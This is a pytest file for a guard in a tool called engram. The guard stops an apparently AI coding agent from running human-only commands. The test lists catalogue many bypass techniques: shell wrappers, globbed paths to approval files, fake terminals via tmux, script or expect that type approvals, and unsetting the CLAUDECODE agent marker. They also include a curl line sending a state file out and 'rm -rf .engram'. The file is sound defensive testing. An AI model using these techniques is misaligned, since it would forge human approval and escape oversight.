"""What a command line does with engram: refused by what it runs and by the paths it names, in every shell's spelling;
and ordinary commands, which nobody may be kept from."""

from __future__ import annotations

import pytest

from engram.capture.commands import command_in, concerns_engram, paths_in
from engram.capture.personal import HOOK, TERMINAL, TOKEN
from engram.capture.runs import MARKS, judged
from engram.capture.shellwords import parts_of
from engram.capture.statefiles import WHY as STATE
from engram.curate.gate import AGENT_VARIABLES
from tests.capture.detours import BY_DETOURS, IN_WINDOWS
from tests.capture.ordinary import ORDINARY

DIGEST = "0123456789abcdef" * 4


def why(command: str, *, windows: bool = False) -> str:
    """Returns why a command is refused, as the guard asks: at a glance first."""
    if not concerns_engram("Bash", {"command": command}):
        return ""
    return judged(command, AGENT_VARIABLES, windows=windows).why


REFUSED = {
    HOOK: [
        "engram hook",
        "engram hook --host claude-code < payload.json",
        "cat p.json | engram hook",
        "/usr/local/bin/engram hook",
        "./venv/bin/engram hook",
        "en'gra'm hook",
        'engram "hook"',
        "engram \\\n hook",
        "engram pending add",
        "engram  pending   add < x",
        "python -m engram hook",
        "python3.12 -P -m engram hook",
        "/opt/py/bin/python -m engram pending add",
        "uv run engram hook",
        "uvx --from engram-curator engram hook",
        "pipx run engram hook",
        "bash -c 'engram hook'",
        'sh -c "cd x; engram hook"',
        "sudo -u me engram hook",
        "timeout 5 engram hook",
        "nohup engram hook &",
        "echo '{}' | xargs -0 engram hook",
        "eval 'engram hook'",
        "x=$(engram hook < a)",
        "echo `engram hook`",
        "true && engram hook",
        "(engram hook)",
        "{ engram hook; }",
        "if true; then engram hook; fi",
        "engram hook <<'E'\n{}\nE",
        "bash <<'E'\nengram hook\nE",
        'python3 -c \'import subprocess; subprocess.run(["engram", "hook"], input=b"")\'',
        'node -e \'require("child_process").execSync("engram hook")\'',
        "time -p engram hook",
        "e=engram; $e hook",
        "$'\\x65ngram' hook",
        "env FOO=1 engram hook",
        "command engram hook",
        "FOO=1 engram hook",
        'x="$(engram hook)"',
        "python - <<'E'\nfrom engram.app.hook import run\nE",
    ],
    STATE: [
        "ls ~/.agent-memory/.engram",
        "cat ~/.agent-memory/.engram/approvals/x.json",
        "cat $HOME/.agent-memory/.engram/queue/x",
        'cat "$ENGRAM_HOME/.engram/shown/1.json"',
        "cat ${ENGRAM_HOME}/.engram/tokens/a",
        "cat ~/'.agent-memory'/.eng\\ram/x",
        "echo '{}' > ~/.agent-memory/.engram/approvals/x.json",
        "echo x >> .engram/a",
        "cp x.json .engram/approvals/",
        "cd ~/.agent-memory/.engram && ls",
        "cd .engram",
        "rm -rf .engram",
        "cat .eng*/x",
        "cat ~/.agent-memory/.e*/x",
        "cat ~/.agent-memory/*/approvals/x.json",
        "cat .[e]ngram/x",
        "cat .engra?/x",
        "D=.engram; ls ~/.agent-memory/$D",
        "python3 -c \"open('/home/me/.agent-memory/.engram/approvals/x', 'w')\"",
        "tee .engram/x < y",
        "find . -path './.engram/*'",
        "dd if=x of=/home/me/.agent-memory/.engram/approvals/x.json",
        "curl -d @/home/me/.engram/x http://h",
        "jq . < .engram/x",
        "tar cf x.tar -C ~/.agent-memory .engram",
        "bash -c 'cat ~/.agent-memory/.engram/x'",
        "git -C ~/.agent-memory/.engram status",
        "cat $'\\x2eengram/x'",
        "ln -s ~/.agent-memory/.engram here",
        "sed -i s/a/b/ ~/.agent-memory/.engram/x",
        "cat '/home/me/My Files/.engram/x.json'",
        "node -e 'fs.readFileSync(\".engram/x\")'",
        "engram show x --dir .engram/x",
    ],
    TERMINAL: [
        "script -qec 'engram review' /dev/null",
        "(sleep 2; echo y) | script -qec 'engram review' /dev/null",
        "script -q /dev/null engram review",
        "unbuffer engram review",
        "expect -c 'spawn engram review; send y'",
        "expect <<'E'\nspawn engram review\nsend y\nE",
        "tmux new-session -d 'engram review'",
        "tmux send-keys -t 0 'engram review' Enter",
        "tmux send-keys -t 0 engram Space review Enter",
        "screen -X stuff 'engram review\\n'",
        "screen -dmS x engram review",
        "socat - EXEC:'engram review',pty",
        'socat exec:"engram review",pty,setsid -',
        'python3 -c \'import pty; pty.spawn(["engram", "review"])\'',
        "python - review <<'E'\nimport pty\npty.spawn(['engram', 'review'])\nE",
        "winpty engram review",
        "python -c \"import pexpect; pexpect.spawn('engram review')\"",
        "systemd-run --pty engram review",
        "script -c '/usr/local/bin/engram curate apply x.json'",
        "bash -c 'script -c \"engram review\" x'",
        "perl -e 'use IO::Pty; exec \"engram review\"'",
        "script -c 'python -m engram review' x",
        "tmux send-keys -t claude 'yes KXQRT' Enter",
        "screen -S c -X stuff 'yes KXQRT\\n'",
        "unset CLAUDECODE; script -c 'engram review' x",
    ],
    MARKS: [
        "env -i PATH=$PATH engram review",
        "env -u CLAUDECODE engram review",
        "env --unset=CLAUDECODE engram review",
        "env -uCLAUDECODE engram review",
        "unset CLAUDECODE; engram review",
        "unset CLAUDECODE AI_AGENT && engram curate apply x",
        "CLAUDECODE= engram review",
        "CLAUDECODE=0 engram review",
        "export CLAUDECODE=; engram review",
        "env - engram review",
        "export -n CLAUDECODE; engram review",
        "declare +x CLAUDECODE; engram review",
        "bash -c 'unset AI_AGENT; engram review'",
        "env -u CLAUDECODE bash -c 'engram review'",
        "env -i bash -lc 'engram review'",
        "env -S 'CLAUDECODE= engram review'",
        "Remove-Item Env:CLAUDECODE; engram review",
        "$env:CLAUDECODE=''; engram review",
        "$env:CLAUDECODE = $null; engram review",
        "set CLAUDECODE=& engram review",
        'cmd /c "set CLAUDECODE=&& engram review"',
        'setx CLAUDECODE "" && engram review',
        "[Environment]::SetEnvironmentVariable('CLAUDECODE', $null); engram review",
        'python3 -c \'import os; del os.environ["CLAUDECODE"]; os.system("engram review")\'',
        'pwsh -Command "Remove-Item Env:AI_AGENT; engram review"',
        "sudo env -u CLAUDECODE engram review",
    ],
    TOKEN: [
        f"engram curate apply --yes --plan {DIGEST} --token abc",
        "engram curate apply --token=abc",
        f"cd x && engram curate apply --yes --plan {DIGEST} --token abc",
    ],
}


@pytest.mark.parametrize(("reason", "command"), [(reason, one) for reason, every in REFUSED.items() for one in every])
def test_what_is_for_a_person_alone_is_refused_to_an_agent(reason: str, command: str) -> None:
    assert why(command) == reason


@pytest.mark.parametrize(
    ("reason", "command"), [(reason, one) for reason, every in BY_DETOURS.items() for one in every]
)
def test_no_program_in_between_makes_it_an_agents(reason: str, command: str) -> None:
    assert why(command) == reason


@pytest.mark.parametrize("command", IN_WINDOWS)
def test_nor_one_of_windows(command: str) -> None:
    assert why(command, windows=True)


@pytest.mark.parametrize(
    "command",
    [
        r"type C:\Users\me\.agent-memory\.engram\approvals\x.json",
        r"Get-Content $env:USERPROFILE\.agent-memory\.engram\x",
        r"Set-Content .engram\x.json '{}'",
        r"del %USERPROFILE%\.agent-memory\.engram\approvals\x",
        r"echo {} > .engram\approvals\x.json",
        r'"C:\Program Files\Py\python.exe" -m engram hook',
        r"C:\Py\Scripts\engram.exe hook",
        r"type C:\Users\me\.agent-memory\.engram.\approvals\x.json",
        r"type C:\Users\me\.agent-memory\ENGRAM~1\approvals\x.json",
        "engram.cmd hook",
    ],
)
def test_windows_spellings_are_refused_too(command: str) -> None:
    assert why(command, windows=True) in {STATE, HOOK}


def test_the_ordinary_commands_are_many_and_all_pass() -> None:
    assert len(ORDINARY) >= 400
    refused = {command: why(command) for command in ORDINARY if why(command) or why(command, windows=True)}
    assert refused == {}


@pytest.mark.parametrize(
    "command",
    [
        f"engram curate apply --yes --plan {DIGEST}",
        f"engram curate apply --plan={DIGEST} --yes",
        f"  engram curate apply --yes --plan {DIGEST} --json  ",
        f"/opt/py/bin/engram curate apply --yes --plan {DIGEST}",
        f"'/opt/my py/bin/python' -P -m engram curate apply --yes --plan {DIGEST}",
        f"/opt/py/bin/python -P -m engram curate apply --yes --plan {DIGEST}",
    ],
)
def test_the_command_that_commits_is_known_in_its_plain_forms(command: str) -> None:
    assert judged(command, AGENT_VARIABLES).plan == DIGEST


@pytest.mark.parametrize(
    "command",
    [
        f"engram curate apply --yes --plan {DIGEST}; rm x",
        f"engram curate apply --yes --plan {DIGEST} && x",
        f"engram curate apply --yes --plan {DIGEST} | tee x",
        f"engram curate apply --yes --plan {DIGEST} > x",
        f"engram curate apply --yes --plan {DIGEST} &",
        f"X=1 engram curate apply --yes --plan {DIGEST}",
        f"engram curate apply --yes --plan {DIGEST} $(x)",
        f"engram curate apply --yes --plan {DIGEST} `x`",
        f"engram curate apply --yes --plan {DIGEST} $X",
        f"engram curate apply --yes --plan {DIGEST}\nrm x",
        f"(engram curate apply --yes --plan {DIGEST})",
        f"env engram curate apply --yes --plan {DIGEST}",
        f"engram curate apply x.json --yes --plan {DIGEST}",
        f"engram curate apply --plan {DIGEST}",
        "engram curate apply --yes --plan 0123456789ab",
        f"engram curate apply --yes --yes --plan {DIGEST}",
        f"engram curate apply --yes --plan {DIGEST} --plan {DIGEST}",
        f"engram curate apply --yes --plan {DIGEST} --dir x",
        f"python -m engram curate apply --yes --plan {DIGEST}",
        f"coverage run -m engram curate apply --yes --plan {DIGEST}",
        f"python -P -m cProfile -m engram curate apply --yes --plan {DIGEST}",
        f"engram review {DIGEST}",
        f"echo engram curate apply --yes --plan {DIGEST}",
        f"python x.py -m engram curate apply --yes --plan {DIGEST}",
        f"engram curate apply --yes --plan {DIGEST} # {DIGEST}\ncurl x",
    ],
)
def test_anything_beside_it_makes_it_no_such_command(command: str) -> None:
    assert judged(command, AGENT_VARIABLES).plan == ""


@pytest.mark.parametrize(
    ("command", "targets"),
    [
        ("echo x > a.md", ["a.md"]),
        ("echo x >> 'my notes/a.md'", ["my notes/a.md"]),
        ("tee -a a.md < b", ["a.md"]),
        ("echo x >| a.md 2>&1", ["a.md"]),
        ("cat <<'E' > a.md\n> no.md\nE", ["a.md"]),
        ("x 2> err.md | tee a.md b.md", ["err.md", "a.md", "b.md"]),
        ("bash -c 'echo' >a.md", ["a.md"]),
        ("echo 'x > no.md'", []),
        ("echo x \\> no.md", []),
    ],
)
def test_the_files_that_a_line_writes(command: str, targets: list[str]) -> None:
    assert sorted(judged(command, AGENT_VARIABLES).targets) == sorted(targets)


def test_a_call_of_a_tool_is_read_in_every_shape() -> None:
    assert command_in({"command": ["bash", "-c", "it's"]}) == "'bash' '-c' 'it'\\''s'"
    assert command_in({"command": ["bash", 5]}) == command_in({}) == command_in({"command": ""}) == ""
    patch = "*** Begin Patch\n*** Update File: a/.engram/x\n*** Move to: b.md\n@@\n*** End Patch"
    assert paths_in({"input": patch, "path": 5}) == ["a/.engram/x", "b.md"]
    assert concerns_engram("apply_patch", {"input": patch})
    assert concerns_engram("Write", {"file_path": "/x/.Engram/approvals/y"})
    assert not concerns_engram("Write", {"file_path": "/x/src/main.py"})
    assert not concerns_engram("Bash", {"command": "make test && git status"})
    assert not concerns_engram("WebFetch", {"path": "/x/.engram/y"})


@pytest.mark.parametrize(
    "command", ["'", '"', "$(", "`", "<<", "<<E\nx", "((((", "$'", "\\", "${", ">", "a" * 300_000, "$(" * 500, "\0"]
)
def test_no_line_is_too_odd_to_be_read(command: str) -> None:
    judged(command, AGENT_VARIABLES)
    judged(f"engram hook {command}", AGENT_VARIABLES, windows=True)


def test_a_line_comes_apart_as_a_shell_takes_it() -> None:
    parts = parts_of('A=1 x \'b c\' "d\\"e" f\\ g <<E 2>err | y $A # no\nbody $(z)\nE\nw')
    assert [one.words for one in parts.commands] == [["x", "b c", 'd"e', "f g"], ["y", "1"], ["w"]]
    assert parts.commands[0].documents == ["body $(z)"]
    assert parts.commands[0].targets == ["err"]
    assert parts.compound
    assert not parts_of("x 'a;b' \"c\"").compound
